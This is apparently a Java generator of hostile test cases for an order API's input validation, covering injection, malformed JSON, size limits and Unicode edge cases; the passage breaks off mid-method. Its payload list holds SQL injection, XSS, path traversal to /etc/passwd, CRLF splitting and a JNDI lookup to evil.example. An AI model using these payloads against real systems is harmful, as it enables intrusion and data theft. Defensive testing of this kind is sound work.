package dev.fulfillment.api.hostile;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.core.util.DefaultIndenter;
import com.fasterxml.jackson.core.util.DefaultPrettyPrinter;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Consumer;

/**
 * Writes the generated part of the hostile corpus, {@code src/test/resources/hostile/generated/*.json},
 * one file per category. Deterministic: every random choice comes from one {@link Random} with
 * {@link #SEED}, so the same code writes the same bytes; {@code GeneratedCorpusTest} fails when the
 * committed files differ from what this class writes.
 *
 * <p>Regenerate after changing this class (from the repository root):
 * <pre>
 * ./mvnw -B -q -o test -pl api -am -Dtest=GeneratedCorpusTest -Dhostile.regenerate=true \
 *     -Dsurefire.failIfNoSpecifiedTests=false
 * </pre>
 * or run {@link #main} with the module directory as working directory.
 */
public final class HostileCorpusGenerator {

  public static final long SEED = 20_240_611L;
  public static final Path DIRECTORY = Path.of("src/test/resources/hostile/generated");
  /** In every log-forging payload, so a forged log line is easy to find. */
  public static final String FORGED_MARKER = "FORGED-LINE";

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  /** Case files: ASCII only (every other character escaped), two-space indent, "\n" line ends. */
  private static final ObjectMapper FILE_WRITER = JsonMapper.builder()
      .enable(JsonWriteFeature.ESCAPE_NON_ASCII)
      .defaultPrettyPrinter(new DefaultPrettyPrinter()
          .withObjectIndenter(new DefaultIndenter("  ", "\n"))
          .withArrayIndenter(new DefaultIndenter("  ", "\n")))
      .build();
  /** Request bodies with non-ASCII characters as \\u escapes, as many clients send them. */
  private static final ObjectMapper ESCAPING_BODY = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
  /** Request bodies with non-ASCII characters as raw UTF-8. */
  private static final ObjectMapper RAW_BODY = JsonMapper.builder().build();

  /** A hostile string; {@code unsafeText}: holds a control character or a bidi override (rejected even in free text). */
  record Payload(String label, String value, boolean unsafeText) {
  }

  static final List<Payload> PAYLOADS = List.of(
      new Payload("sql tautology", "' OR '1'='1", false),
      new Payload("sql stacked query", "1; DROP TABLE orders;--", false),
      new Payload("sql union", "x' UNION SELECT paymentToken FROM orders--", false),
      new Payload("sql comment", "admin'/*", false),
      new Payload("nosql operator", "{\"$ne\":null}", false),
      new Payload("nosql where", "'; return true; var x='", false),
      new Payload("dynamodb expression", "attribute_exists(orderId) OR #s = :v", false),
      new Payload("jsonata expression", "{% $states.input.paymentToken %}", false),
      new Payload("jsonata function", "$eval('$string($states)')", false),
      new Payload("context object", "$$.Execution.Input", false),
      new Payload("double dollar", "$$", false),
      new Payload("jsonpath root", "$.paymentToken", false),
      new Payload("jsonpath recursive", "$..*", false),
      new Payload("template braces", "{{7*7}}", false),
      new Payload("expression language", "#{7*7}", false),
      new Payload("jndi lookup", "${jndi:ldap://evil.example/a}", false),
      new Payload("script tag", "<script>alert(1)</script>", false),
      new Payload("attribute breakout", "\"><img src=x onerror=alert(1)>", false),
      new Payload("javascript url", "javascript:alert(1)", false),
      new Payload("log forging lf", "x\n{\"level\":\"ERROR\",\"message\":\"" + FORGED_MARKER + "\"}", true),
      new Payload("log forging crlf", "x\r\n{\"level\":\"INFO\",\"message\":\"" + FORGED_MARKER + "\"}", true),
      new Payload("path traversal", "../../../../etc/passwd", false),
      new Payload("encoded path traversal", "..%2f..%2f..%2fetc%2fpasswd", false),
      new Payload("windows path traversal", "..\\..\\windows\\win.ini", false),
      new Payload("format string", "%s%s%s%s%n", false),
      new Payload("positional format", "{0}{1}%1$s", false),
      new Payload("rtl override", "abc\u202Etxt.exe", true),
      new Payload("zero width space", "SKU\u200B-1", false),
      new Payload("nul byte", "c\u0000-1", true),
      new Payload("lone high surrogate", "c-\uD800-1", false),
      new Payload("lone low surrogate", "\uDC00c-1", false),
      new Payload("crlf header split", "k\r\nx-forged: 1", true));

  private final Random random = new Random(SEED);
  private final Map<String, List<ObjectNode>> categories = new TreeMap<>();

  public static void main(String[] args) {
    write(args.length > 0 ? Path.of(args[0]) : DIRECTORY);
  }

  /** Writes every generated file into {@code directory}, removing stale ones. */
  public static void write(Path directory) {
    try {
      Files.createDirectories(directory);
      Map<String, String> files = files();
      try (var existing = Files.list(directory)) {
        for (Path file : existing.toList()) {
          if (!files.containsKey(file.getFileName().toString())) {
            Files.delete(file);
          }
        }
      }
      for (Map.Entry<String, String> file : files.entrySet()) {
        Files.writeString(directory.resolve(file.getKey()), file.getValue(), StandardCharsets.UTF_8);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** File name to file text, in a fixed order. */
  public static Map<String, String> files() {
    HostileCorpusGenerator generator = new HostileCorpusGenerator();
    generator.generate();
    Map<String, String> files = new TreeMap<>();
    generator.categories.forEach((category, cases) -> {
      ObjectNode file = NODES.objectNode();
      file.put("generatedBy", HostileCorpusGenerator.class.getName());
      file.put("seed", SEED);
      file.put("note", "generated, do not edit: change the generator and regenerate (see its Javadoc)");
      ArrayNode list = file.putArray("cases");
      cases.forEach(list::add);
      try {
        files.put(category + ".json", FILE_WRITER.writerWithDefaultPrettyPrinter().writeValueAsString(file) + "\n");
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    });
    return files;
  }

  private void generate() {
    injection();
    headerNames();
    malformedJson();
    wrongTypesAndNulls();
    numbers();
    lines();
    sizesAndNesting();
    invalidUtf8();
    controlCharactersAndUnicode();
    cardNumbers();
    personalFields();
    contentTypes();
    methodsAndPaths();
  }

  // ---------------------------------------------------------------- categories

  /** Every payload in every field, header and key the api reads, and in the order id of a GET. */
  private void injection() {
    for (Payload p : PAYLOADS) {
      String is = p.label() + " in ";
      add("injection", post(is + "customerId", order(o -> o.put("customerId", p.value()))).expect("customerId"));
      add("injection", post(is + "sku", order(o -> line0(o).put("sku", p.value()))).expect("lines[0].sku"));
      add("injection", post(is + "paymentToken", order(o -> o.put("paymentToken", "tok_" + p.value())))
          .expect("paymentToken"));
      add("injection", post(is + "email", order(o -> o.put("email", p.value()))).expect("email"));
      add("injection", post(is + "shippingAddress.country",
          order(o -> address(o).put("country", p.value()))).expect("shippingAddress.country"));
      add("injection", post(is + "shippingAddress.postalCode",
          order(o -> address(o).put("postalCode", p.value()))).expect("shippingAddress.postalCode"));
      // Free text may hold quotes, braces and dollars (a street may be called that); those values are
      // never stored nor interpreted. Such a case is made invalid by its quantity, and the hostile
      // value must still not come back in the answer or the logs.
      for (String field : List.of("name", "line1", "line2", "city", "region")) {
        Case free = post(is + "shippingAddress." + field + " (with quantity 0)",
            order(o -> {
              address(o).put(field, p.value());
              line0(o).put("quantity", 0);
            })).expect("lines[0].quantity");
        if (p.unsafeText()) {
          free.expect("shippingAddress." + field);
        }
        add("injection", free);
      }
      add("injection", post(is + "lines[0].quantity", order(o -> line0(o).put("quantity", p.value())))
          .expect("lines[0].quantity"));
      add("injection", post(is + "the Idempotency-Key header", order(o -> { }))
          .header("idempotency-key", p.value()).expect("header:Idempotency-Key"));
      add("injection", post(is + "the idempotencyKey field", order(o -> o.put("idempotencyKey", p.value())))
          .expect("idempotencyKey"));
      // Jackson refuses a lone surrogate in a field name as malformed JSON (in a value it is a string).
      boolean surrogate = p.value().chars().anyMatch(c -> Character.isSurrogate((char) c));
      add("injection", post(is + "a field name", order(o -> o.put(p.value(), "x")))
          .expect(surrogate ? "" : "(unnamed field)"));
      add("injection", post(is + "a field name of a line", order(o -> line0(o).put(p.value(), 1)))
          .expect(surrogate ? "" : "lines[0].(unnamed field)"));
      add("injection", post(is + "a field name of the address", order(o -> address(o).put(p.value(), "x")))
          .expect(surrogate ? "" : "shippingAddress.(unnamed field)"));
      add("injection", request(is + "the order id of a GET", "GET",
          "/orders/" + URLEncoder.encode("ord_" + p.value(), StandardCharsets.UTF_8).replace("+", "%20"))
          .noHeaders().status(404, "OrderNotFound"));
    }
  }

  /** Header names that are almost the content type (so there is none: 415), or hostile extra names. */
  private void headerNames() {
    for (String name : List.of("content-type\r\nx-forged: 1", "content-type\u0000", "content\u200B-type", "content-type ",
        " content-type", "content_type", "contenttype", "content-typ\u0435", "\uFF43ontent-type",
        "content-type:application/json", "x-content-type", "content-type\n", "{{content-type}}", "${content-type}",
        "content-type'--", "content-type%00", "content-type\u202E")) {
      add("header-names", post("header name " + printable(name) + " instead of content-type", order(o -> { }))
          .noHeaders().header(name, "application/json").status(415, "UnsupportedMediaType"));
    }
    for (Payload p : PAYLOADS.subList(0, 20)) {
      add("header-names", post("extra header named " + p.label() + " (with quantity 0)",
          order(o -> line0(o).put("quantity", 0))).header(p.value(), p.value()).expect("lines[0].quantity"));
    }
  }

  private void malformedJson() {
    String full = text(fullOrder(), ESCAPING_BODY);
    // Every proper prefix of a JSON object is malformed: cut at 40 seeded places.
    for (int i = 0; i < 40; i++) {
      int cut = 1 + random.nextInt(full.length() - 1);
      add("malformed-json", post("truncated after " + cut + " of " + full.length() + " characters",
          full.substring(0, cut)).expect(""));
    }
    // Deleting one structural character breaks the document: quotes become unbalanced, a brace or
    // bracket unmatched, a key loses its colon or two values their comma.
    List<Integer> structural = new ArrayList<>();
    for (int i = 0; i < full.length(); i++) {
      if ("{}[]:,\"".indexOf(full.charAt(i)) >= 0) {
        structural.add(i);
      }
    }
    for (int i = 0; i < 30; i++) {
      int at = structural.get(random.nextInt(structural.size()));
      add("malformed-json", post("without the '" + full.charAt(at) + "' at " + at,
          full.substring(0, at) + full.substring(at + 1)).expect(""));
    }
    String base = text(order(o -> { }), ESCAPING_BODY);
    Map<String, String> fixed = new TreeMap<>(Map.ofEntries(
        Map.entry("NaN quantity", base.replace("\"quantity\":1", "\"quantity\":NaN")),
        Map.entry("Infinity quantity", base.replace("\"quantity\":1", "\"quantity\":Infinity")),
        Map.entry("negative Infinity quantity", base.replace("\"quantity\":1", "\"quantity\":-Infinity")),
        Map.entry("leading zero quantity", base.replace("\"quantity\":1", "\"quantity\":01")),
        Map.entry("hex quantity", base.replace("\"quantity\":1", "\"quantity\":0x1")),
        Map.entry("plus sign quantity", base.replace("\"quantity\":1", "\"quantity\":+1")),
        Map.entry("bare decimal point quantity", base.replace("\"quantity\":1", "\"quantity\":.5")),
        Map.entry("trailing decimal point quantity", base.replace("\"quantity\":1", "\"quantity\":1.")),
        Map.entry("unquoted key", base.replace("\"customerId\"", "customerId")),
        Map.entry("single quoted string", base.replace("\"c-hostile\"", "'c-hostile'")),
        Map.entry("trailing comma in lines", base.replace("}]", "},]")),
        Map.entry("trailing comma in object", base.substring(0, base.length() - 1) + ",}"),
        Map.entry("double comma", base.replace(",\"lines\"", ",,\"lines\"")),
        Map.entry("block comment", "/* order */" + base),
        Map.entry("line comment", base + "// done"),
        Map.entry("invalid escape", base.replace("c-hostile", "c-\\x41")),
        Map.entry("short unicode escape", base.replace("c-hostile", "c-\\u12")),
        Map.entry("non-hex unicode escape", base.replace("c-hostile", "c-\\uZZZZ")),
        Map.entry("backslash at the end of a string", base.replace("c-hostile\"", "c-hostile\\\"")),
        Map.entry("json lines", base + "\n" + base),
        Map.entry("object then array", base + "[]"),
        Map.entry("missing value", base.replace("\"c-hostile\"", "")),
        Map.entry("missing colon", base.replace("\"customerId\":", "\"customerId\" ")),
        Map.entry("array closed by a brace", base.replace("}]", "}}")),
        Map.entry("bare words", "customerId=c-1&sku=SKU-1"),
        Map.entry("truncated literal true", "tru"),
        Map.entry("truncated literal null", "nul"),
        Map.entry("unterminated string", "\"c-hostile"),
        Map.entry("duplicate customerId", base.replace("{\"customerId\":\"c-hostile\"",
            "{\"customerId\":\"c-hostile\",\"customerId\":\"c-other\"")),
        Map.entry("duplicate quantity", base.replace("\"quantity\":1", "\"quantity\":1,\"quantity\":1000")),
        Map.entry("duplicate paymentToken", base.replace("\"paymentToken\":", "\"paymentToken\":\"tok_dup_first\",\"paymentToken\":")),
        Map.entry("duplicate key in the address", text(fullOrder(), ESCAPING_BODY).replace("\"city\":", "\"city\":\"Bonn\",\"city\":"))));
    fixed.forEach((name, body) -> add("malformed-json", post(name, body).expect("")));
  }

  private void wrongTypesAndNulls() {
    Map<String, JsonNode> values = new TreeMap<>(Map.of(
        "an integer", NODES.numberNode(7), "a fraction", NODES.numberNode(1.5), "true", NODES.booleanNode(true),
        "false", NODES.booleanNode(false), "an empty list", NODES.arrayNode(),
        "a list", NODES.arrayNode().add("a").add(1), "an empty object", NODES.objectNode(),
        "an object", NODES.objectNode().put("value", "x"), "a string", NODES.textNode("text")));
    List<String[]> targets = List.of(
        new String[] {"customerId", "string"}, new String[] {"paymentToken", "string"}, new String[] {"lines", "none"},
        new String[] {"lines[0]", "object"}, new String[] {"lines[0].sku", "string"},
        new String[] {"lines[0].quantity", "integer"}, new String[] {"email", "none"},
        new String[] {"shippingAddress", "object"}, new String[] {"shippingAddress.line1", "string"},
        new String[] {"shippingAddress.country", "none"});
    for (String[] target : targets) {
      values.forEach((label, value) -> {
        // A value of the right type may still be a valid one ("text" is a fine customerId; {} a line
        // missing fields): only values of another type are in this table.
        boolean sameType = switch (target[1]) {
          case "string" -> value.isTextual();
          case "object" -> value.isObject();
          case "integer" -> value.isIntegralNumber();
          default -> false;
        };
        if (sameType) {
          return;
        }
        ObjectNode body = set(fullOrder(), target[0], value.deepCopy());
        String field = target[0];
        if (field.equals("lines") && value.isArray()) {
          // An empty list is "at least one line"; a list of non-objects names its elements.
          field = value.isEmpty() ? "lines" : "lines[0]";
        }
        add("wrong-types", post(target[0] + " is " + label, text(body, ESCAPING_BODY)).expect(field));
      });
    }
    for (String root : List.of("[]", "[{}]", "\"order\"", "42", "true", "null")) {
      add("wrong-types", post("the body is " + root, root).expect(""));
    }
    add("wrong-types", post("the body is {}", "{}").expect("customerId").expect("lines").expect("paymentToken"));
    for (String path : List.of("customerId", "paymentToken", "lines", "lines[0]", "lines[0].sku", "lines[0].quantity",
        "shippingAddress.line1", "shippingAddress.city", "shippingAddress.postalCode", "shippingAddress.country")) {
      add("nulls", post(path + " is null", text(set(fullOrder(), path, NODES.nullNode()), ESCAPING_BODY)).expect(path));
    }
    add("nulls", post("every field is null", "{\"customerId\":null,\"lines\":null,\"paymentToken\":null,"
        + "\"shippingAddress\":null,\"email\":null}").expect("customerId").expect("lines").expect("paymentToken"));
  }

  private void numbers() {
    for (String quantity : List.of("0", "-0", "-1", "-1000", "-2147483648", "1001", "2147483647", "2147483648",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1.5", "0.999", "1.0", "1e0", "1E3",
        "1e-3", "-1e3", "1E400", "-1E400", "4.9E-324", "1000.0000001")) {
      add("numbers", post("quantity " + quantity, text(order(o -> { }), ESCAPING_BODY)
          .replace("\"quantity\":1", "\"quantity\":" + quantity)).expect("lines[0].quantity"));
    }
    // Integers of 11 to 64 digits, both signs: beyond any int, within the parser's number limit.
    for (int i = 0; i < 16; i++) {
      String digits = digits(11 + random.nextInt(54));
      String sign = random.nextBoolean() ? "-" : "";
      add("numbers", post("quantity of " + digits.length() + " digits" + (sign.isEmpty() ? "" : ", negative"),
          text(order(o -> { }), ESCAPING_BODY).replace("\"quantity\":1", "\"quantity\":" + sign + digits))
          .expect("lines[0].quantity"));
    }
    // Longer than the parser takes at all: refused before any field is looked at.
    for (int length : List.of(65, 100, 1_000, 10_000)) {
      add("numbers", post("number of " + length + " digits", List.of(
          part("{\"customerId\":\"c-1\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":"), part("9", length),
          part("}],\"paymentToken\":\"tok_numbers\"}"))).expect(""));
    }
    add("numbers", post("exponent of 10000 digits", List.of(
        part("{\"customerId\":\"c-1\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1e"), part("9", 10_000),
        part("}],\"paymentToken\":\"tok_numbers\"}"))).expect(""));
    // Long digit runs in text: scanned for card numbers, they must not cost more than their length.
    for (int length : List.of(2_000, 10_000, 30_000)) {
      add("numbers", post("customerId of " + length + " digits", order(o -> o.put("customerId", "9".repeat(length))))
          .expect("customerId"));
    }
    add("numbers", post("address line of 4000 digit pairs (with quantity 0)", order(o -> {
      address(o).put("line2", "12 34-".repeat(1_000));
      line0(o).put("quantity", 0);
    })).expect("shippingAddress.line2").expect("lines[0].quantity"));
    add("numbers", post("unknown field of 20000 digits", order(o -> o.put("reference", "7".repeat(20_000))))
        .expect("reference"));
    add("numbers", post("customerId as a huge number", text(order(o -> o.put("customerId",
        new java.math.BigInteger("98765432109876543210987654321"))), ESCAPING_BODY)).expect("customerId"));
  }

  private void lines() {
    String line = "{\"sku\":\"SKU-1\",\"quantity\":1}";
    for (int count : List.of(51, 100, 500, 1_000)) {
      add("thousands-of-lines", post(count + " lines", List.of(part("{\"customerId\":\"c-1\",\"lines\":["),
          part(line + ",", count - 1), part(line + "],\"paymentToken\":\"tok_lines\"}"))).expect("lines"));
    }
    for (int count : List.of(2_000, 5_000, 20_000)) {
      add("thousands-of-lines", post(count + " lines (over the size limit)", List.of(
          part("{\"customerId\":\"c-1\",\"lines\":["), part(line + ",", count - 1),
          part(line + "],\"paymentToken\":\"tok_lines\"}"))).status(413, "PayloadTooLarge"));
    }
    add("thousands-of-lines", post("1000 empty objects as lines", List.of(part("{\"customerId\":\"c-1\",\"lines\":["),
        part("{},", 999), part("{}],\"paymentToken\":\"tok_lines\"}"))).expect("lines"));
    // Duplicates at seeded places among otherwise distinct lines.
    for (int i = 0; i < 14; i++) {
      int count = 2 + random.nextInt(49);
      int first = random.nextInt(count - 1);
      int second = first + 1 + random.nextInt(count - first - 1);
      int lineCount = count;
      ObjectNode body = order(o -> {
        ArrayNode lines = o.putArray("lines");
        for (int l = 0; l < lineCount; l++) {
          lines.addObject().put("sku", "SKU-" + (l == second ? first : l)).put("quantity", 1 + l % 9);
        }
      });
      add("duplicate-skus", post("lines " + first + " and " + second + " of " + count + " share a SKU",
          text(body, ESCAPING_BODY)).expect("lines[" + second + "].sku"));
    }
    add("duplicate-skus", post("the same SKU on 50 lines", List.of(part("{\"customerId\":\"c-1\",\"lines\":["),
        part(line + ",", 49), part(line + "],\"paymentToken\":\"tok_lines\"}"))).expect("lines[1].sku"));
    // The api cannot know the catalog (ReserveStock fails unknown SKUs with UnknownSkuException);
    // SKUs it refuses are those no catalog can hold: wrong alphabet, look-alikes, invisible parts.
    Map<String, String> skus = new TreeMap<>(Map.ofEntries(
        Map.entry("lower case", "sku-1"), Map.entry("empty", ""), Map.entry("blank", "   "),
        Map.entry("41 characters", "S".repeat(41)), Map.entry("leading space", " SKU-1"),
        Map.entry("trailing newline", "SKU-1\n"), Map.entry("cyrillic look-alike", "\u0405KU-1"),
        Map.entry("fullwidth", "\uFF33\uFF2B\uFF35-1"), Map.entry("arabic-indic digit", "SKU-\u0663"),
        Map.entry("zero width joiner", "SKU\u200D-1"), Map.entry("soft hyphen", "SKU\u00AD1"),
        Map.entry("emoji", "SKU-\uD83D\uDCA3"), Map.entry("combining accent", "SKU-1\u0301"),
        Map.entry("underscore", "SKU_1"), Map.entry("wildcard", "SKU-*"), Map.entry("slash", "SKU/1"),
        Map.entry("non-breaking hyphen", "SKU\u20111"), Map.entry("byte order mark", "\uFEFFSKU-1")));
    skus.forEach((label, sku) -> add("unknown-skus",
        post("sku " + label, text(order(o -> line0(o).put("sku", sku)), RAW_BODY)).expect("lines[0].sku")));
  }

  private void sizesAndNesting() {
    String order = text(order(o -> { }), ESCAPING_BODY);
    String open = order.substring(0, order.length() - 1);
    int kib300 = 300 * 1024;
    add("oversized-bodies", post("300 KiB of spaces after an order", List.of(part(order), part(" ", kib300 - order.length())))
        .status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("300 KiB customerId", List.of(part("{\"customerId\":\""), part("c", kib300),
        part("\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1}],\"paymentToken\":\"tok_big\"}"))).status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("300 KiB of unknown fields", List.of(part(open), part(",\"f\":1", kib300 / 6), part("}")))
        .status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("300 KiB of multi-byte characters", List.of(part("{\"customerId\":\""),
        part("\u00E9", kib300 / 2), part("\"}"))).status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("300 KiB of nested arrays", List.of(part("{\"customerId\":"), part("[", kib300 / 2),
        part("]", kib300 / 2), part("}"))).status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("300 KiB base64-encoded", List.of(part(order), part(" ", kib300 - order.length())))
        .base64().status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("one byte over 32 KiB", List.of(part(order), part(" ", 32 * 1024 + 1 - order.length())))
        .status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("32 KiB plus one two-byte character", List.of(part(order),
        part(" ", 32 * 1024 - 1 - order.length()), part("\u00E9"))).status(413, "PayloadTooLarge"));
    add("oversized-bodies", post("a megabyte", List.of(part(order), part(" ", 1024 * 1024))).status(413, "PayloadTooLarge"));
    for (int depth : List.of(9, 12, 32, 100, 1_000, 5_000)) {
      add("deep-nesting", post("arrays " + depth + " deep in customerId", List.of(part("{\"customerId\":"),
          part("[", depth), part("]", depth), part("}"))).expect(""));
      add("deep-nesting", post("objects " + depth + " deep in an unknown field", List.of(part(open + ",\"x\":"),
          part("{\"x\":", depth), part("1"), part("}", depth), part("}"))).expect(""));
    }
    add("deep-nesting", post("lines nested 50 deep", List.of(part("{\"customerId\":\"c-1\",\"lines\":"), part("[", 50),
        part("]", 50), part(",\"paymentToken\":\"tok_deep\"}"))).expect(""));
    add("deep-nesting", post("an address nested 50 deep", List.of(part(open + ",\"shippingAddress\":"),
        part("{\"line1\":", 50), part("\"x\""), part("}", 50), part("}"))).expect(""));
    add("deep-nesting", post("unclosed arrays 20000 deep", List.of(part("{\"customerId\":"), part("[", 20_000))).expect(""));
  }

  private void invalidUtf8() {
    Map<String, byte[]> sequences = new TreeMap<>(Map.ofEntries(
        Map.entry("lone continuation byte", new byte[] {(byte) 0x80}),
        Map.entry("continuation bytes only", new byte[] {(byte) 0xBF, (byte) 0x80}),
        Map.entry("two-byte start without continuation", new byte[] {(byte) 0xC3, 0x28}),
        Map.entry("overlong slash", new byte[] {(byte) 0xC0, (byte) 0xAF}),
        Map.entry("overlong three-byte slash", new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}),
        Map.entry("overlong nul", new byte[] {(byte) 0xC0, (byte) 0x80}),
        Map.entry("encoded surrogate", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}),
        Map.entry("encoded surrogate pair", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0xBD, (byte) 0xED, (byte) 0xB2, (byte) 0xA9}),
        Map.entry("beyond U+10FFFF", new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}),
        Map.entry("byte F5", new byte[] {(byte) 0xF5, (byte) 0x80, (byte) 0x80, (byte) 0x80}),
        Map.entry("byte FE", new byte[] {(byte) 0xFE}),
        Map.entry("byte FF", new byte[] {(byte) 0xFF}),
        Map.entry("three-byte sequence cut short", new byte[] {(byte) 0xE2, (byte) 0x82}),
        Map.entry("four-byte sequence cut short", new byte[] {(byte) 0xF0, (byte) 0x9F, (byte) 0x92}),
        Map.entry("latin-1 e acute", new byte[] {(byte) 0xE9})));
    List<String[]> places = List.of(
        new String[] {"customerId", "{\"customerId\":\"c-", "\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1}],\"paymentToken\":\"tok_utf8\"}"},
        new String[] {"shippingAddress.line1", "{\"customerId\":\"c-1\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1}],"
            + "\"paymentToken\":\"tok_utf8\",\"shippingAddress\":{\"line1\":\"Haupt", "strasse 1\",\"city\":\"Berlin\","
            + "\"postalCode\":\"10115\",\"country\":\"DE\"}}"},
        new String[] {"shippingAddress.name", "{\"customerId\":\"c-1\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1}],"
            + "\"paymentToken\":\"tok_utf8\",\"shippingAddress\":{\"name\":\"Ren", "e\",\"line1\":\"Hauptstrasse 1\","
            + "\"city\":\"Berlin\",\"postalCode\":\"10115\",\"country\":\"DE\"}}"},
        new String[] {"a field name", "{\"customerId\":\"c-1\",\"lines\":[{\"sku\":\"SKU-1\",\"quantity\":1}],"
            + "\"paymentToken\":\"tok_utf8\",\"x", "\":1}"});
    sequences.forEach((label, bytes) -> {
      String[] place = places.get(random.nextInt(places.size()));
      byte[] prefix = place[1].getBytes(StandardCharsets.UTF_8);
      byte[] suffix = place[2].getBytes(StandardCharsets.UTF_8);
      byte[] body = new byte[prefix.length + bytes.length + suffix.length];
      System.arraycopy(prefix, 0, body, 0, prefix.length);
      System.arraycopy(bytes, 0, body, prefix.length, bytes.length);
      System.arraycopy(suffix, 0, body, prefix.length + bytes.length, suffix.length);
      add("invalid-utf8", post(label + " in " + place[0], "").bodyBase64(body).expect(""));
    });
    byte[] utf16 = text(order(o -> { }), ESCAPING_BODY).getBytes(StandardCharsets.UTF_16LE);
    add("invalid-utf8", post("the order in UTF-16LE", "").bodyBase64(utf16).expect(""));
    byte[] utf16be = text(order(o -> { }), ESCAPING_BODY).getBytes(StandardCharsets.UTF_16BE);
    add("invalid-utf8", post("the order in UTF-16BE", "").bodyBase64(utf16be).expect(""));
  }

  private void controlCharactersAndUnicode() {
    List<String> strict = List.of("customerId", "lines[0].sku", "paymentToken", "email");
    List<String> free = List.of("shippingAddress.name", "shippingAddress.line1", "shippingAddress.city");
    // Every C0 and C1 control character and DEL, escaped in the JSON: the field's rules refuse it.
    List<Integer> controls = new ArrayList<>();
    for (int c = 0; c < 0x20; c++) {
      controls.add(c);
    }
    for (int c = 0x7F; c <= 0x9F; c++) {
      controls.add(c);
    }
    for (int c : controls) {
      String hex = String.format("U+%04X", c);
      String field = c % 2 == 0 ? strict.get(random.nextInt(strict.size())) : free.get(random.nextInt(free.size()));
      String value = "ab" + (char) c + "cd@example.com";
      add("control-characters", post("escaped " + hex + " in " + field,
          text(set(fullOrder(), field, NODES.textNode(field.equals("paymentToken") ? "tok_" + value : value)),
              ESCAPING_BODY)).expect(field));
    }
    // Unescaped C0 characters inside a string are not JSON at all.
    for (int c = 0; c < 0x20; c++) {
      String field = random.nextBoolean() ? "customerId" : "shippingAddress.line1";
      String marker = "MARK" + c;
      String body = text(set(fullOrder(), field, NODES.textNode(marker)), ESCAPING_BODY)
          .replace(marker, "x" + (char) c + "y");
      add("control-characters", post(String.format("raw U+%04X in %s", c, field), body).expect(""));
    }
    // Characters that change how text displays or compares.
    Map<String, String> unicode = new TreeMap<>(Map.ofEntries(
        Map.entry("LRE U+202A", "\u202A"), Map.entry("RLE U+202B", "\u202B"), Map.entry("PDF U+202C", "\u202C"),
        Map.entry("LRO U+202D", "\u202D"), Map.entry("RLO U+202E", "\u202E"), Map.entry("LRI U+2066", "\u2066"),
        Map.entry("RLI U+2067", "\u2067"), Map.entry("FSI U+2068", "\u2068"), Map.entry("PDI U+2069", "\u2069")));
    unicode.forEach((label, ch) -> {
      for (String field : List.of("shippingAddress.line1", "shippingAddress.name", "email", "customerId")) {
        add("unicode", post(label + " in " + field + " (escaped)",
            text(set(fullOrder(), field, NODES.textNode("ab" + ch + "cd@example.com")), ESCAPING_BODY)).expect(field));
      }
      add("unicode", post(label + " in shippingAddress.city (raw UTF-8)",
          text(set(fullOrder(), "shippingAddress.city", NODES.textNode("Ber" + ch + "lin")), RAW_BODY))
          .expect("shippingAddress.city"));
    });
    Map<String, String> strictOnly = new TreeMap<>(Map.ofEntries(
        Map.entry("zero width space", "c\u200B1"), Map.entry("zero width non-joiner", "c\u200C1"),
        Map.entry("word joiner", "c\u20601"), Map.entry("line separator", "c\u20281"),
        Map.entry("paragraph separator", "c\u20291"), Map.entry("byte order mark", "\uFEFFc1"),
        Map.entry("ideographic space", "c\u30001"), Map.entry("nbsp", "c\u00A01"),
        Map.entry("mathematical bold digit", "c\uD835\uDFCF"), Map.entry("superscript one", "c\u00B9")));
    strictOnly.forEach((label, value) -> {
      for (String field : strict) {
        String v = field.equals("paymentToken") ? "tok_" + value : value;
        add("unicode", post(label + " in " + field, text(set(fullOrder(), field, NODES.textNode(v)),
            random.nextBoolean() ? RAW_BODY : ESCAPING_BODY)).expect(field));
      }
    });
    // Lone surrogates can only travel as JSON escapes (as UTF-8 bytes they are invalid, see invalid-utf8).
    for (String surrogate : List.of("\\ud800", "\\udbff", "\\udc00", "\\udfff", "\\udc00\\ud800")) {
      for (String field : List.of("customerId", "sku", "paymentToken", "email")) {
        String value = field.equals("paymentToken") ? "tok_x" : "x";
        String body = text(order(o -> {
          o.put("email", "buyer@example.org");
          if (field.equals("sku")) {
            line0(o).put("sku", "SURROGATE");
          } else {
            o.put(field, value + "SURROGATE");
          }
        }), ESCAPING_BODY).replace("SURROGATE", surrogate);
        add("unicode", post("lone surrogate " + surrogate + " in " + field, body)
            .expect(field.equals("sku") ? "lines[0].sku" : field));
      }
    }
  }

  /** Luhn-valid numbers of real card lengths and prefixes, in every place a client could put one. */
  private void cardNumbers() {
    List<String> prefixes = List.of("4", "51", "55", "2221", "2720", "34", "37", "6011", "65", "35", "62");
    List<Integer> lengths = List.of(16, 16, 16, 16, 16, 15, 15, 16, 16, 16, 19);
